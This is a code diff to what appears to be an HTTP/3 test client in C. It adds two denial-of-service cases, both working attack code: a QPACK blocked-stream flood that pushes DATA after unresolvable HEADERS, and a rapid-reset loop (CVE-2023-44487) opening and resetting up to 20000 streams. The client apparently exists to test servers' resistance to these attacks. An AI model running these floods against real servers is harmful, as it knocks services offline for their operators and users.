@@ -6,6 +6,13 @@
  *
  *   h3raw HOST PORT CASE...      (CASE names below; each gets its own stream)
  *
+ * Two abuse cases are not requests but attacks, each reported on its own line:
+ *   qpack-blocked-flood  HEADERS that reference a QPACK entry never sent, then
+ *                        DATA for 3 s: "case=... stream=ID sent=BYTES" (what the
+ *                        server's flow control let through)
+ *   rapid-reset          streams opened with HEADERS and reset at once, for up to
+ *                        5 s or 20000 streams: "case=... stream=-1 opened=N"
+ *
  * Output, one line per case then one for the connection:
  *   case=NAME stream=ID status=200 | reset=0x10e | none
  *   connection=open | connection=closed error=0x... app=1 reason="..."
@@ -18,6 +25,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/socket.h>
+#include <time.h>
 #include <unistd.h>
 
 #include <nghttp3/nghttp3.h>
@@ -371,6 +379,86 @@ static void read_all(void)
     }
 }
 
+static int conn_closed(void)
+{
+    SSL_CONN_CLOSE_INFO ci;
+    return SSL_get_conn_close_info(conn, &ci, sizeof(ci)) == 1;
+}
+
+/* Lets OpenSSL's client run: sends, reads what the server says (and drops it). */
+static void pump(int fd, int ms)
+{
+    struct pollfd pfd = {.fd = fd, .events = POLLIN};
+    SSL_handle_events(conn);
+    read_all();
+    poll(&pfd, 1, ms);
+    SSL_handle_events(conn);
+}
+
+static uint64_t now_ms(void)
+{
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
+}
+
+/* HEADERS whose field section needs dynamic table entry 1 (Required Insert
+ * Count 1, encoded as 2 with the server's 4096-byte table), which our encoder
+ * never sends: the server must hold the stream, then everything after it. */
+static void qpack_blocked_flood(struct rq *r, int fd)
+{
+    static const uint8_t blocked[] = {0x01, 0x03, 0x02, 0x00, 0x80};
+    static uint8_t data[5 + 16384];
+    uint64_t sent = 0, end = now_ms() + 3000;
+    size_t w;
+    /* DATA frame: type 0, length 16384 as a 4-byte varint. */
+    data[0] = 0x00, data[1] = 0x80, data[2] = 0x00, data[3] = 0x40, data[4] = 0x00;
+    if (!SSL_write_ex2(r->s, blocked, sizeof(blocked), 0, &w))
+        die("cannot write HEADERS");
+    while (now_ms() < end && !conn_closed()) {
+        if (SSL_write_ex2(r->s, data, sizeof(data), 0, &w) && w > 0) {
+            sent += w;
+            continue;
+        }
+        ERR_clear_error();
+        pump(fd, 5);
+    }
+    printf("case=%s stream=%lld sent=%llu\n", r->name, (long long)r->id, (unsigned long long)sent);
+    r->done = 1;
+    r->raw = 2; /* already reported */
+}
+
+/* HEADERS without FIN, then RESET_STREAM at once, as fast as stream credit
+ * allows (CVE-2023-44487 for HTTP/3). */
+static void rapid_reset(struct rq *r, int fd)
+{
+    const char *f[] = {":method", "GET", ":scheme", "https", ":authority", authority,
+                       ":path", "/hello.txt"};
+    static uint8_t frame[512];
+    size_t len = headers_frame(frame, f, 8), w;
+    uint64_t opened = 0, end = now_ms() + 5000;
+    while (now_ms() < end && opened < 20000 && !conn_closed()) {
+        SSL *s = SSL_new_stream(conn, SSL_STREAM_FLAG_NO_BLOCK);
+        if (s == NULL) {
+            ERR_clear_error();
+            pump(fd, 2);
+            continue;
+        }
+        SSL_write_ex2(s, frame, len, 0, &w);
+        SSL_STREAM_RESET_ARGS args = {.quic_error_code = 0x10c}; /* H3_REQUEST_CANCELLED */
+        SSL_stream_reset(s, &args, sizeof(args));
+        SSL_free(s);
+        ERR_clear_error();
+        if (++opened % 50 == 0)
+            pump(fd, 0);
+    }
+    for (int i = 0; i < 40 && !conn_closed(); i++)
+        pump(fd, 25);
+    printf("case=%s stream=-1 opened=%llu\n", r->name, (unsigned long long)opened);
+    r->done = 1;
+    r->raw = 2;
+}
+
 static int all_done(void)
 {
     for (int i = 0; i < nreqs; i++)
@@ -438,6 +526,10 @@ int main(int argc, char **argv)
         size_t rawlen;
         r->name = argv[i];
         r->id = -1;
+        if (strcmp(r->name, "rapid-reset") == 0) {
+            rapid_reset(r, fd);
+            continue;
+        }
         r->s = SSL_new_stream(conn, SSL_STREAM_FLAG_NO_BLOCK);
         if (r->s == NULL) {
             /* The connection is gone (an earlier case killed it). */
@@ -446,6 +538,10 @@ int main(int argc, char **argv)
             continue;
         }
         r->id = add_stream(r->s)->id;
+        if (strcmp(r->name, "qpack-blocked-flood") == 0) {
+            qpack_blocked_flood(r, fd);
+            continue;
+        }
         if (raw_case(r->name, &raw, &rawlen) == 0) {
             size_t w;
             r->raw = 1;
@@ -480,6 +576,8 @@ int main(int argc, char **argv)
         poll(&pfd, 1, 25);
     }
     for (int i = 0; i < nreqs; i++) {
+        if (reqs[i].raw == 2)
+            continue;
         printf("case=%s stream=%lld ", reqs[i].name, (long long)reqs[i].id);
         if (reqs[i].has_reset)
             printf("reset=0x%llx\n", (unsigned long long)reqs[i].reset);
